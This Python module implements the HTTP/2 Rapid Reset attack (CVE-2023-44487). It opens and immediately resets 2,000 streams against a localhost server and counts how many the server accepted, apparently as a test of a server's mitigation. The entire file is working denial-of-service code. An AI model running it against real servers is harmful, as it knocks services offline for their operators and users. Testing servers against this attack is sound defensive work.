"""The attack of CVE-2023-44487: an HTTP/2 client opens streams and resets each one at once, as fast as it can."""

from __future__ import annotations

import socket
import ssl
import struct

RESET_STREAMS = 2_000
_RST_STREAM, _GOAWAY = 3, 7  # Types of HTTP/2 frames (RFC 9113, section 6).
_REFUSED_STREAM = 7  # An HTTP/2 error code (RFC 9113, section 7).


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Returns the bytes of an HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def reset_streams(attacker: ssl.SSLSocket) -> int:
    """Opens RESET_STREAMS streams on a new connection, each with a request for `/reset`, and resets each stream at
    once. Returns the number of streams that the server accepted.
    """
    # The request headers in the format HPACK (RFC 7541). The first two bytes are indexes in HPACK's static table: the
    # method GET and the scheme https. The path and the host follow as literal values.
    headers = b"\x82\x87" + b"\x04\x06/reset" + b"\x41\x09localhost"
    cancel = struct.pack(">I", 8)
    streams = range(1, 2 * RESET_STREAMS + 1, 2)
    attacker.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    attacker.sendall(b"".join(frame(1, 5, each, headers) + frame(_RST_STREAM, 0, each, cancel) for each in streams))
    return _accepted(attacker)


def _accepted(attacker: socket.socket) -> int:
    """Returns how many streams the server accepted. The server's GOAWAY frame names the last stream that the server
    processed. Earlier streams count, except for those that the server refused with REFUSED_STREAM (RFC 9113, sections
    6.8 and 8.7).
    """
    received, refused = b"", 0
    while part := attacker.recv(1 << 16):
        received += part
        while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
            end, kind = 9 + int.from_bytes(received[:3], "big"), received[3]
            payload, received = received[9:end], received[end:]
            if kind == _RST_STREAM and int.from_bytes(payload, "big") == _REFUSED_STREAM:
                refused += 1
            elif kind == _GOAWAY:
                return (int.from_bytes(payload[:4], "big") + 1) // 2 - refused
    raise AssertionError("the connection ended without a GOAWAY frame")
